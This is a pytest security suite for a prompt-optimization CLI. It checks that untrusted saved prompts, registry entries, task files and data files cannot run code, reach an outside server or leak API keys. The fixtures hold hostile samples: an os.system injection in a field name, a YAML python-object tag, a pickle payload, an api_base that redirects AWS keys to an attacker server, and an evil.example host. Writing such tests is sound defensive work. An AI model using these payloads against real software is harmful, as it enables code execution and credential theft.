"""A newcomer is handed what an attacker wrote: nothing of it runs, nothing leaves the machine, one message says why."""

from __future__ import annotations

import json
import os
import warnings
from collections.abc import Callable, Iterator
from contextlib import closing
from dataclasses import dataclass, field
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from click.testing import CliRunner
from support.jobs import lighten, make_task, rule, settings, write_config

from optimizer import load_prompt
from optimizer.cli.main import cli
from optimizer.config.models import ModelConfig, Models
from optimizer.config.schema import RunConfig
from optimizer.errors import MetierError
from optimizer.ledger.ledger import Ledger
from optimizer.ledger.trials import begin_trial
from optimizer.prompt.saved import dump_prompt
from optimizer.task.load import load_task
from optimizer.testing.fake_server import FakeServer
from optimizer.track import promote
from optimizer.types import Candidate, Prompt

pytestmark = pytest.mark.timeout(120)
SECRET = "the-newcomers-own-secret"
VARIABLES = ("AWS_SECRET_ACCESS_KEY", "OPENAI_API_KEY", "ANTHROPIC_API_KEY", "MLFLOW_TRACKING_TOKEN")


@dataclass
class Attack:
    """A newcomer's folder with a task of their own, an attacker's server that counts, and the trace of code."""

    folder: Path
    server: FakeServer
    patch: pytest.MonkeyPatch
    trace: Path = field(init=False)

    def __post_init__(self) -> None:
        self.trace = self.folder / "it-ran"
        make_task(self.folder / "mine")

    @property
    def address(self) -> str:
        return self.server.api_base

    def code(self, name: str) -> str:
        """Write code that leaves a trace when it is imported, and return its path."""
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        lines = [f"open({str(self.trace)!r}, 'w').close()", "import dspy", "def go(*_):"]
        path.write_text("\n".join([*lines, "    return dspy.Predict('text -> kind')", ""]))
        return str(path)

    def best(self, model: dict[str, Any] | None = None, place: str = "evil.json", **changes: Any) -> str:
        """Write a best.json for the newcomer's task, and return its path."""
        named = ModelConfig(model="openai/fake")
        text = dump_prompt(load_task(self.folder / "mine"), Candidate({"predict": Prompt("Sort it.")}), named, {})
        data = json.loads(text)
        data |= {"model": data["model"] | (model or {}), **changes}
        path = self.folder / place
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(data))
        return str(path)

    def program(self) -> dict[str, str]:
        """Return a program as a best.json names it."""
        return {"function": "evil.py:go", "folder": str(Path(self.code("elsewhere/evil.py")).parent)}

    def registry(self, text: str | bytes, tag: str = "runs:/r/best.json", kept: str = "") -> str:
        """Let the registry hold a file, and return the address of its version."""

        def download(run: str, path: str, folder: str) -> str:
            assert (run, path) == ("r", "best.json"), "MLflow would look elsewhere"
            target = Path(folder) / "best.json"
            target.write_bytes(text if isinstance(text, bytes) else text.encode())
            return str(target)

        version = SimpleNamespace(tags={promote.FILE: tag})
        client = SimpleNamespace(
            get_prompt_version_by_alias=lambda *_: version,
            get_run=lambda run: SimpleNamespace(info=SimpleNamespace(artifact_uri=kept or str(self.folder))),
            download_artifacts=download,
        )
        self.patch.setattr(promote, "make_client", lambda uri: client)
        self.patch.setenv("MLFLOW_TRACKING_URI", "http://registry.example")
        return "prompts:/sorting@champion"


Case = Callable[[Attack], tuple[list[str] | Callable[[], object], list[str]]]
CASES: dict[str, Case] = {}


def case(function: Case) -> Case:
    CASES[function.__name__] = function
    return function


def scored(prompt: str) -> list[str]:
    return ["eval", "mine", "--prompt", prompt]


# --- best.json ---------------------------------------------------------------------------------------------------


@case
def prompt_sends_a_key_to_an_address(attack: Attack) -> tuple[list[str], list[str]]:
    path = attack.best({"api_base": attack.address, "api_key_env": "AWS_SECRET_ACCESS_KEY"})
    return scored(path), [f"the address '{attack.address}'", "the key in 'AWS_SECRET_ACCESS_KEY'", "--trust"]


@case
def prompt_sends_the_data_to_an_address(attack: Attack) -> tuple[list[str], list[str]]:
    return scored(attack.best({"api_base": attack.address})), ["the address", "--model"]


@case
def prompt_sends_another_providers_key(attack: Attack) -> tuple[list[str], list[str]]:
    return scored(attack.best({"api_key_env": "ANTHROPIC_API_KEY"})), ["the key in 'ANTHROPIC_API_KEY'"]


@case
def prompt_hides_the_address_in_the_models_name(attack: Attack) -> tuple[list[str], list[str]]:
    return scored(attack.best({"model": f"huggingface/{attack.address}"})), ["the model 'huggingface/http"]


@case
def prompt_fetches_a_models_file(attack: Attack) -> tuple[list[str], list[str]]:
    return scored(attack.best({"model": "hf:evil/repo/evil.gguf"})), ["the model 'hf:evil/repo/evil.gguf'"]


@case
def prompt_opens_a_models_file(attack: Attack) -> tuple[list[str], list[str]]:
    return scored(attack.best({"model": "/etc/evil.gguf"})), ["the model '/etc/evil.gguf'"]


@case
def prompt_runs_code_in_export(attack: Attack) -> tuple[list[str], list[str]]:
    return ["export", attack.best(program=attack.program()), "--to", "python"], ["the code", "evil.py:go", "--trust"]


@case
def prompt_runs_code_and_sends_when_called(attack: Attack) -> tuple[Callable[[], object], list[str]]:
    path = attack.best({"api_base": attack.address}, program=attack.program())
    return lambda: load_prompt(path)(text="iron"), ["the address", "the code", "trust=True"]


@case
def prompt_runs_code_when_its_program_is_taken(attack: Attack) -> tuple[Callable[[], object], list[str]]:
    path = attack.best(program=attack.program())
    return lambda: load_prompt(path).program, ["the code", "trust=True"]


@case
def prompt_is_loaded_as_a_logged_model(attack: Attack) -> tuple[Callable[[], object], list[str]]:
    path = attack.best({"api_base": attack.address})

    def serve() -> object:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # MLflow's own
            from optimizer.track.served import Served

        served = Served()
        served.load_context(SimpleNamespace(artifacts={"prompt": path}, model_config={"trust": False}))
        return served.predict(None, [{"text": "iron"}])

    return serve, ["the address", "trust=True"]


@case
def prompt_is_the_rival_of_a_check(attack: Attack) -> tuple[list[str], list[str]]:
    good, evil = attack.best(place="good.json"), attack.best({"api_base": attack.address})
    return ["check", good, "--task", "mine", "--against", evil], ["evil.json", "the address"]


@case
def prompt_is_moved_from_an_address_of_its_own(attack: Attack) -> tuple[list[str], list[str]]:
    evil = attack.best({"api_base": attack.address})
    return ["migrate", evil, "--to", "openai/fake", "--task", "mine"], ["evil.json", "the address"]


def handed_over(attack: Attack, task: Path, **models: Any) -> str:
    """Write the folder of a run that an attacker hands over, with a ledger that names a task and models."""
    attack.best(place="theirs/best.json")
    config = RunConfig(task=str(task), models=Models.model_validate({"task": "openai/fake", **models}))
    with closing(Ledger(attack.folder / "theirs" / "ledger.db")) as ledger:
        ledger.put_meta("identity", {"config": config.model_dump(mode="json", exclude={"task", "run_dir", "notify"})})
        ledger.put_meta("task_path", str(attack.folder / task))
    return "theirs"


@case
def run_names_the_judge_of_a_migration(attack: Attack) -> tuple[list[str], list[str]]:
    theirs = handed_over(attack, Path("mine"), judge={"model": "openai/fake", "api_base": attack.address})
    return ["migrate", theirs, "--to", "openai/fake"], ["ledger.db", "the address"]


@case
def run_names_the_task_of_a_migration(attack: Attack) -> tuple[list[str], list[str]]:
    make_task(attack.folder / "lure", program="evil.py:go")
    attack.code("lure/evil.py")
    return ["migrate", handed_over(attack, Path("lure")), "--to", "openai/fake"], ["ledger.db", "the code"]


@case
def run_names_the_judge_of_a_watch(attack: Attack) -> tuple[list[str], list[str]]:
    theirs = handed_over(attack, Path("mine"), judge={"model": "openai/fake", "api_base": attack.address})
    return ["watch", theirs], ["ledger.db", "the address"]


@case
def run_names_the_task_of_a_watch(attack: Attack) -> tuple[list[str], list[str]]:
    make_task(attack.folder / "lure", program="evil.py:go")
    attack.code("lure/evil.py")
    return ["watch", handed_over(attack, Path("lure"))], ["ledger.db", "the code"]


@case
def prompt_lies_in_the_folder_of_a_configs_run(attack: Attack) -> tuple[list[str], list[str]]:
    attack.best({"api_base": attack.address}, place="out/best.json")
    config = write_config(attack.folder / "run.yaml", settings(Path("mine"), None, run_dir="out"))
    return ["check", str(config), "--min", "0.5"], ["out/best.json", "the address"]


@case
def prompt_writes_its_address_into_another_tools_config(attack: Attack) -> tuple[list[str], list[str]]:
    return ["export", attack.best({"api_base": attack.address}), "--to", "promptfoo"], ["the address"]


@case
def prompt_writes_code_into_a_python_file(attack: Attack) -> tuple[list[str], list[str]]:
    fields = {"text): __import__('os').system('id') #": {}}
    return ["export", attack.best(inputs=fields), "--to", "python"], ["not a prompt that metier saved", "field's name"]


@case
def prompt_has_a_format_of_its_own(attack: Attack) -> tuple[list[str], list[str]]:
    prompt = {**Prompt("Sort it.").to_json(), "format": "__import__('os').system('id')"}
    path = attack.best(prompts={"predict": prompt})
    return ["export", path, "--to", "dspy"], ["not a prompt that metier saved", "format"]


@case
def prompt_is_nested_without_end(attack: Attack) -> tuple[list[str], list[str]]:
    (attack.folder / "deep.json").write_text('{"metier": 1, "program": ' + "[" * 100_000)
    return scored("deep.json"), ["deep.json: not a prompt that metier saved"]


@case
def run_of_somebody_names_a_task_with_code(attack: Attack) -> tuple[list[str], list[str]]:
    attack.code("elsewhere/evil.py")
    make_task(attack.folder / "elsewhere", program="evil.py:go", metric="python: evil.py:go")
    (attack.folder / "run").mkdir()
    with closing(Ledger(attack.folder / "run" / "ledger.db")) as ledger:
        ledger.put_meta("identity", {"config": settings(attack.folder / "elsewhere")})
        ledger.put_meta("task_path", str(attack.folder / "elsewhere"))
        begin_trial(ledger, 0, Candidate({"predict": Prompt("Sort it.")}), {}).result(5)
    return ["export", "run", "--trial", "0", "--to", "python"], ["run: asks for the code", "evil.py:go", "--trust"]


# --- a registry --------------------------------------------------------------------------------------------------


@case
def registry_sends_a_key_to_an_address(attack: Attack) -> tuple[Callable[[], object], list[str]]:
    path = attack.best({"api_base": attack.address, "api_key_env": "AWS_SECRET_ACCESS_KEY"})
    name = attack.registry(Path(path).read_text())
    return lambda: load_prompt(name)(text="iron"), [f"{name}: asks for the address", "the key in"]


@case
def registry_is_the_rival_of_a_check(attack: Attack) -> tuple[list[str], list[str]]:
    name = attack.registry(Path(attack.best({"api_base": attack.address})).read_text())
    return ["check", attack.best(place="good.json"), "--task", "mine", "--against", name], [f"{name}: asks for"]


@case
def registry_runs_code(attack: Attack) -> tuple[Callable[[], object], list[str]]:
    name = attack.registry(Path(attack.best(program=attack.program())).read_text())
    return lambda: load_prompt(name).program, [f"{name}: asks for the code"]


@case
def registry_keeps_its_files_at_another_server(attack: Attack) -> tuple[list[str], list[str]]:
    name = attack.registry("{}", kept=f"{attack.address}/files")
    return ["check", attack.best(), "--task", "mine", "--against", name], ["its file lies elsewhere", attack.address]


@case
def registry_keeps_its_files_at_another_servers_proxy(attack: Attack) -> tuple[list[str], list[str]]:
    name = attack.registry("{}", kept=f"mlflow-artifacts://127.0.0.1:{attack.server.port}/files")
    return ["check", attack.best(), "--task", "mine", "--against", name], ["its file lies elsewhere"]


@case
def registry_points_to_a_file_of_the_machine(attack: Attack) -> tuple[list[str], list[str]]:
    name = attack.registry("{}", tag="file:///etc/passwd")
    return ["check", attack.best(), "--task", "mine", "--against", name], ["not registered by metier"]


@case
def registry_holds_no_text(attack: Attack) -> tuple[list[str], list[str]]:
    name = attack.registry(b"\x80\x04\x95cposix\nsystem\n")
    return ["check", attack.best(), "--task", "mine", "--against", name], ["not UTF-8 text"]


# --- task.yaml ---------------------------------------------------------------------------------------------------


def task_of(attack: Attack, **changes: Any) -> list[str]:
    make_task(attack.folder / "theirs", **changes)
    return ["tasks", "check", "theirs"]


@case
def task_makes_an_object_of_pythons(attack: Attack) -> tuple[list[str], list[str]]:
    command = task_of(attack)
    with (attack.folder / "theirs" / "task.yaml").open("a") as file:
        file.write(f"description: !!python/object/apply:os.system ['touch {attack.trace}']\n")
    return command, ["task.yaml", "not valid YAML"]


@case
def task_names_a_program_outside_of_its_folder(attack: Attack) -> tuple[list[str], list[str]]:
    attack.code("elsewhere/evil.py")
    return task_of(attack, program="../elsewhere/evil.py:go"), ["program", "outside of the task's folder"]


@case
def task_names_a_metric_anywhere(attack: Attack) -> tuple[list[str], list[str]]:
    return task_of(attack, metric=f"python: {attack.code('elsewhere/evil.py')}:go"), ["metric", "outside of the task's"]


@case
def task_links_to_code_outside_of_its_folder(attack: Attack) -> tuple[list[str], list[str]]:
    command = task_of(attack, metric={"python": "metric.py:go"})
    (attack.folder / "theirs" / "metric.py").symlink_to(attack.code("elsewhere/evil.py"))
    return command, ["metric", "outside of the task's folder"]


@case
def task_of_others_is_shown(attack: Attack) -> tuple[list[str], list[str]]:
    attack.code("theirs/evil.py")
    task_of(attack, metric="python: evil.py:go", data={"path": "gone.jsonl"})
    return ["tasks", "show", "theirs"], ["gone.jsonl: no such file"]


# --- a data file -------------------------------------------------------------------------------------------------


@case
def data_is_a_pickle(attack: Attack) -> tuple[list[str], list[str]]:
    command = task_of(attack, data={"path": "data.pkl"})
    (attack.folder / "theirs" / "data.pkl").write_bytes(b"cposix\nsystem\n(S'touch it-ran'\ntR.")
    return command, ["data.pkl"]


@case
def data_is_an_address(attack: Attack) -> tuple[list[str], list[str]]:
    return task_of(attack, data={"path": f"{attack.address}/data.csv"}), ["no such file"]


@case
def data_is_nested_without_end(attack: Attack) -> tuple[list[str], list[str]]:
    command = task_of(attack)
    (attack.folder / "theirs" / "examples.jsonl").write_text('{"text": ' + "[" * 100_000 + "\n")
    return command, ["examples.jsonl:1"]


@case
def data_is_a_parquet_file_that_is_none(attack: Attack) -> tuple[list[str], list[str]]:
    command = task_of(attack, data={"path": "data.parquet"})
    (attack.folder / "theirs" / "data.parquet").write_bytes(b"PAR1" + b"\xff" * 64 + b"PAR1")
    return command, ["data.parquet"]


@pytest.fixture
def attack(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Attack]:
    lighten(monkeypatch.setattr)
    monkeypatch.chdir(tmp_path)
    for name in VARIABLES:
        monkeypatch.setenv(name, SECRET)
    with FakeServer(rule) as server:
        yield Attack(tmp_path, server, monkeypatch)


def message_of(job: list[str] | Callable[[], object]) -> str:
    """Return the one message that a command, or a call, ends with."""
    if callable(job):
        with pytest.raises(MetierError) as refused:
            job()
        return f"Error: {refused.value}\n"
    done = CliRunner().invoke(cli, job, prog_name="metier")
    assert (done.exit_code, done.stdout) == (2, ""), (done.stdout, done.stderr, done.exception)
    return done.stderr


@pytest.mark.parametrize("name", CASES)
def test_nothing_runs_nothing_leaves_and_one_message_says_why(name: str, attack: Attack) -> None:
    job, parts = CASES[name](attack)
    told = message_of(job)
    assert [part for part in parts if part not in told] == [], told
    assert [line.startswith("Error: ") for line in told.splitlines()].count(True) == 1
    assert told.startswith("Error: ")
    assert len(told) < 1_000, told
    assert "Traceback" not in told
    assert not attack.trace.exists(), "it ran"
    assert attack.server.count == 0, "it left the machine"
    assert SECRET not in told


def test_there_are_25_cases_of_all_four_kinds() -> None:
    kinds = {kind: sum(name.startswith(kind) for name in CASES) for kind in ("prompt", "registry", "task", "data")}
    assert len(CASES) >= 25
    assert min(kinds.values()) >= 4, kinds


def test_with_trust_the_same_prompt_is_used(attack: Attack) -> None:
    path = attack.best({"api_base": attack.address, "api_key_env": "AWS_SECRET_ACCESS_KEY"}, program=attack.program())
    assert load_prompt(path, trust=True)(text="iron").kind == "fruit"
    assert attack.trace.exists()
    assert attack.server.count == 1
    assert CliRunner().invoke(cli, [*scored(attack.best({"api_base": attack.address})), "--trust"]).exit_code == 0


def test_the_text_of_a_prompt_is_data_and_needs_no_trust(attack: Attack) -> None:
    path = attack.best({"api_base": attack.address, "api_key_env": "AWS_SECRET_ACCESS_KEY"})
    for target in ("text", "messages", "openai", "python", "dspy", "langchain"):
        done = CliRunner().invoke(cli, ["export", path, "--to", target])
        assert done.exit_code == 0, (target, done.stderr)
        assert attack.address not in done.stdout
        assert "AWS_SECRET" not in done.stdout
    assert attack.server.count == 0


def test_another_model_makes_a_foreign_prompt_harmless(attack: Attack) -> None:
    path = attack.best({"api_base": "http://evil.example", "api_key_env": "AWS_SECRET_ACCESS_KEY"})
    done = CliRunner().invoke(cli, [*scored(path), "--model", "openai/mine", "--api-base", attack.address])
    assert done.exit_code == 0, done.stderr
    assert {body["model"] for body in attack.server.requests} == {"mine"}


def test_what_the_users_own_config_says_needs_no_trust(attack: Attack) -> None:
    config = write_config(attack.folder / "run.yaml", settings(Path("mine"), attack.address, run_dir="out"))
    attack.best({"api_base": attack.address}, place="out/best.json")
    done = CliRunner().invoke(cli, ["check", str(config), "--min", "0.1"])
    assert done.exit_code in (0, 1), done.stderr
    assert attack.server.count > 0


def test_a_prompt_is_scored_by_the_program_of_the_callers_task(attack: Attack) -> None:
    path = attack.best(program=attack.program())
    CliRunner().invoke(cli, [*scored(path), "--model", "openai/mine", "--api-base", attack.address])
    assert attack.server.count > 0
    assert not attack.trace.exists()
    assert os.environ["AWS_SECRET_ACCESS_KEY"] == SECRET
